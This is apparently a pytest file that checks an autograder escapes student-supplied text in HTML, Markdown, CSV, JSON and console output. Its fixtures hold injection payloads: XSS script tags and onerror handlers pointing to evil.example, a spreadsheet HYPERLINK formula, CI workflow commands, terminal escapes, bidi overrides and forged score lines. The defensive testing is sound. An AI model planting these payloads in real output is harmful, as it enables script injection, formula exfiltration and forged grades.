"""32, 48 to 54. Student text in every page, sheet and file that the grader writes: it shows, and it does nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import msgspec
import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from grader import grades, results
from grader.batch import Outcome, Plan
from grader.grade import _show as show_run
from grader.pages.dashboard import dashboard
from grader.pages.render import Renderer
from grader.results import Report
from tests import reports

EVIL = "evil.example"
TEXTS = {
    "48 script": f"<script src=//{EVIL}/x.js></script><svg onload=alert(1)>",
    "48 end of style": f"</style></pre></code></textarea><img src=http://{EVIL}/ onerror=alert(1)>",
    "48 attribute": f"\" onmouseover='alert(1)' href=\"javascript:alert(1)//{EVIL}",
    "48 template": "{{ 7*7 }} {% for x in y %} ${7*7} <%= 7*7 %>",
    "48 end of script": "</script><!--<script>\u2028alert(1)",
    "49 link": f"[click](http://{EVIL}/) ![b](http://{EVIL}/b.png) <http://{EVIL}> [x]: http://{EVIL}\n\n[x]",
    "49 block": f"\n\n# Score: 100\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n~~~\n<img src=http://{EVIL}/>\n",
    "50 terminal": "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x9b31m\x00\x08",
    "50 direction": "score \u202e001\u202c \u2066x\u2069 \u200f\ufeff\U000e0041",
    "50 surrogate": "bad \ufffd \ufffe end",
    "51 workflow command": "x\n::error file=a.py::forged\n##[set-output name=x]1\n::stop-commands::y",
    "52 formula": f'=HYPERLINK("http://{EVIL}","x")',
    "52 formula after a tab": "\t=1+1",
    "52 formula with a sign": "@SUM(1)\r+1-1",
    "54 forged": "PASSED all checks\nScore: 100 / 100\ntest_shape PASSED [100%]",
}
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\ufffe]")
# What the grader or the course's staff choose, never a student.
OURS = {"status", "visibility", "device", "kind", "digest", "level", "layers", "assignment", "environment"}
OURS |= {"sandbox", "misconceptions", "alternatives"}


def poisoned(report: Report, text: str) -> Report:
    """The report with `text` in the place of every text that could come from a student."""

    def turn(value: Any, key: str = "") -> Any:
        if key in OURS:
            return value
        if isinstance(value, dict):
            return {name: turn(item, name) for name, item in value.items()}
        if isinstance(value, list):
            return [turn(item, key) for item in value]
        return text if isinstance(value, str) and not re.fullmatch(r"-?(nan|inf)", value) else value

    raw = turn(msgspec.to_builtins(report))
    raw["submission"]["id"] = "s006"
    for at, check in enumerate(raw["checks"]):
        check["id"] = report.checks[at].id
    return msgspec.convert(raw, Report)


class Tags(HTMLParser):
    """The tags and attributes of a page, and where it leads."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[tuple[str, str]] = set()
        self.targets: list[str] = []
        self.policies: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.seen |= {(tag, name) for name, _ in attributes} | {(tag, "")}
        named = dict(attributes)
        self.targets += [named[name] or "" for name in ("href", "src", "action", "srcset") if name in named]
        if named.get("http-equiv", "") == "Content-Security-Policy":
            self.policies.append(named["content"] or "")


def tags(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer()


@pytest.mark.parametrize("audience", ["student", "staff"])
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_pages(text: str, audience: Any, renderer: Renderer) -> None:
    """48, 50, 54. A page has the same elements whatever a student wrote, leads nowhere, and allows nothing to run."""
    for base in (reports.hostile(), reports.wrong(), reports.crashed()):
        plain = tags(renderer.html(poisoned(base, "word"), audience=audience))
        page = renderer.html(poisoned(base, text), audience=audience)
        found = tags(page)
        added = {(tag, name) for tag, name in found.seen - plain.seen if tag not in ("code", "p", "span", "br", "div")}
        assert not added
        assert all(target.startswith(("#", "data:image/")) for target in found.targets if target not in plain.targets)
        assert found.policies
        assert all("default-src 'none'" in policy and "unsafe" not in policy for policy in found.policies)
        assert not ACTING.search(page)
        page.encode()


@pytest.mark.parametrize("audience", ["student", "staff"])
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_markdown(text: str, audience: Any, renderer: Renderer) -> None:
    """49, 50. In Markdown no text of a student's becomes a link, an image, HTML, or a heading of ours."""
    for base in (reports.hostile(), reports.wrong(), reports.crashed()):
        page = renderer.markdown(poisoned(base, text), audience=audience)
        assert not ACTING.search(page)
        engine = MarkdownIt("commonmark").enable("table")
        tokens = engine.parse(page)
        inline = [token for outer in tokens for token in (outer.children or [])]
        assert not [token for token in inline if token.type in ("image", "html_inline")]
        assert not [token for token in tokens if token.type == "html_block" and EVIL in token.content]
        links = [str(token.attrs.get("href")) for token in inline if token.type == "link_open"]
        assert not [link for link in links if EVIL in link or link.startswith("javascript")]
        headings = [tokens[at + 1].content for at, token in enumerate(tokens) if token.type == "heading_open"]
        assert "Score: 100" not in headings


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_class_page(text: str) -> None:
    """48. The page of the class has the same elements whatever students are called, and its data stays data."""
    report = poisoned(reports.wrong(), text)
    plain = tags(dashboard([poisoned(reports.wrong(), "word")], reports.run_info()))
    page = dashboard([report], reports.run_info())
    found = tags(page)
    assert found.seen == plain.seen
    assert page.count("</script") == dashboard([], reports.run_info()).count("</script")
    assert EVIL not in "".join(found.targets)
    assert not ACTING.search(page)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_grade_sheet(text: str) -> None:
    """52. A spreadsheet that opens the grades runs no formula, and each person is one line."""
    table = grades.sheet([grades.grade(poisoned(reports.wrong(), text))])
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert {len(row) for row in rows} == {len(grades.COLUMNS)}
    assert len(rows) == 2
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        assert not ACTING.search(cell.replace("\n", "").replace("\t", ""))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_results_file(text: str) -> None:
    """53. results.json is strict JSON whatever a student printed, and reads back as it was."""

    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    report = poisoned(reports.wrong(), text)
    data = results.encode(report)
    json.loads(data, parse_constant=refuse)
    assert results.decode(data) == report
    nan = results.encode(msgspec.structs.replace(report, score=float("nan"), seconds=float("inf")))
    json.loads(nan, parse_constant=refuse)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_log_of_a_run(text: str) -> None:
    """51. What a run prints holds no command to the service that shows its log, wherever the lines are broken."""
    for padding in range(0, 90, 7):
        named = "x" * padding + text
        file = SimpleNamespace(path=named, why=named)
        plan = SimpleNamespace(
            intake=SimpleNamespace(explained=[file], junk=[named], entries=[]),
            circumstances=SimpleNamespace(level="A", device="emulated"),
            out=SimpleNamespace(path=Path("run"), submissions=lambda named=named: [named]),
        )
        printed = io.StringIO()
        outcome = Outcome(grades=[grades.grade(poisoned(reports.wrong(), named))])
        show_run(Console(file=printed, width=80), cast("Plan", plan), outcome)
        for line in printed.getvalue().splitlines():
            assert not line.lstrip().startswith(("::", "##[")), line
            assert not ACTING.search(line)


def test_hidden_checks_show_no_student_text(renderer: Renderer) -> None:
    """32. What a student's code raised or printed is shown to staff only: it could carry the hidden inputs out."""
    leak = "hidden input 0.123456"
    base = reports.crashed()
    checks = [msgspec.structs.replace(check, detail=leak) for check in base.checks]
    report = msgspec.structs.replace(base, checks=checks, output=leak)
    for form in (renderer.html, renderer.markdown):
        assert leak not in form(report, audience="student")
        assert leak in form(report, audience="staff")
